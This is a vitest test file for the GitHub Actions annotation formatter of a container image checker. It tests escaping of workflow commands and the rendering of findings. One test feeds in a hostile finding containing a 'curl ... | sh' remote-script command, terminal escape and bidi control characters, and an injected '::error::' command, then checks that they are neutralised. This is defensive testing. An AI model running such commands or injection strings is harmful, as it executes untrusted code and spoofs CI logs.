import { describe, expect, it } from "vitest";
import type { Report } from "../../src/checks/report.js";
import { escapeData, escapeProperty, renderGithub } from "../../src/cli/format-github.js";

describe("GitHub workflow command escaping", () => {
  it.each([
    ["100%", "100%25", "100%25"],
    ["a\r\nb", "a%0D%0Ab", "a%0D%0Ab"],
    ["dir:a,b", "dir:a,b", "dir%3Aa%2Cb"],
    ["::error::x", "::error::x", "%3A%3Aerror%3A%3Ax"],
  ])("escapes %j as data %j and as a property %j", (text, data, property) => {
    expect(escapeData(text)).toBe(data);
    expect(escapeProperty(text)).toBe(property);
  });
});

describe("renderGithub", () => {
  const report = {
    reference: "ghcr.io/acme/app:1.0",
    verdict: "block",
    findings: [
      {
        id: "trust.signature-invalid",
        severity: "critical",
        title: "broken\nsignature",
        detail: "100% bad",
        evidence: {},
      },
      {
        id: "config.root-user",
        severity: "medium",
        title: "runs as root",
        detail: "use a user",
        evidence: {},
      },
      { id: "tag.not-pinned", severity: "info", title: "not pinned", detail: "pin it", evidence: {} },
    ],
  } as unknown as Report;

  it("annotates each place with ::error for block and ::warning for review, then one summary line", () => {
    const out = renderGithub([{ report, locations: [{ file: "a,b:c/Dockerfile", line: 3 }] }], {
      reviewAt: "medium",
      blockAt: "critical",
    });
    expect(out.split("\n")).toEqual([
      "::error file=a%2Cb%3Ac/Dockerfile,line=3,title=trust.signature-invalid [critical]::ghcr.io/acme/app:1.0: broken%0Asignature. 100%25 bad",
      "::warning file=a%2Cb%3Ac/Dockerfile,line=3,title=config.root-user [medium]::ghcr.io/acme/app:1.0: runs as root. use a user",
      "image-check: ghcr.io/acme/app:1.0 at a,b:c/Dockerfile:3: BLOCK, 2 finding(s) at or above review",
      "",
    ]);
  });

  // Image text (a build step, a label) reaches the CI log through the message: an ANSI sequence
  // would colour or hide log lines, a bidi override reorder them, as on a terminal.
  it("shows escape sequences and bidi controls from image text as escapes, keeping line breaks", () => {
    const hostile = {
      ...report,
      findings: [
        {
          id: "history.remote-script",
          severity: "critical",
          title: "runs a script",
          detail: "curl http://x.example/\u202eabc\u001b[2J | sh\n::error::injected\u0007",
          evidence: {},
        },
      ],
    } as unknown as Report;
    const out = renderGithub([{ report: hostile, locations: [] }], {
      reviewAt: "medium",
      blockAt: "critical",
    });
    expect(out.split("\n")[0]).toBe(
      "::error title=history.remote-script [critical]::ghcr.io/acme/app:1.0: runs a script. curl http://x.example/\\u202eabc\\x1b[2J | sh%0A::error::injected\\x07",
    );
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  });
});
